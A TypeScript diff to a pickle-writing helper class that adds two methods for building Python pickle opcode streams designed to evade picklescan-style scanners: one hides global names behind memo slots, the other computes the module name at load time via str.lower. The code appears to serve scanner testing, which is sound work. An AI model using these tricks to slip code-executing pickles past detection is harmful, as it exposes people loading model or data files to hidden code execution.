@@ -31,6 +31,24 @@ export class PickleWriter {
   stackGlobal() {
     return this.raw(0x93);
   }
+  /**
+   * STACK_GLOBAL of module.name with both names memoised first (MEMOIZE, POP) and fetched back with BINGET:
+   * a scanner reading only the strings next to STACK_GLOBAL misses it (a picklescan bypass). Memo slots 0 and 1.
+   */
+  memoisedGlobal(module: string, name: string) {
+    return this.shortUnicode(module).memoize().pop().shortUnicode(name).memoize().pop().binGet(0).binGet(1).stackGlobal();
+  }
+  /** STACK_GLOBAL of `name` in a module whose name is computed while loading (str.lower of `upper`), so no list can match it. */
+  computedGlobal(upper: string, name: string) {
+    return this.shortUnicode("builtins")
+      .shortUnicode("str.lower")
+      .stackGlobal()
+      .shortUnicode(upper)
+      .tuple1()
+      .reduce()
+      .shortUnicode(name)
+      .stackGlobal();
+  }
   shortUnicode(s: string) {
     const b = Buffer.from(s, "utf8");
     return this.raw(0x8c, b.length, b);
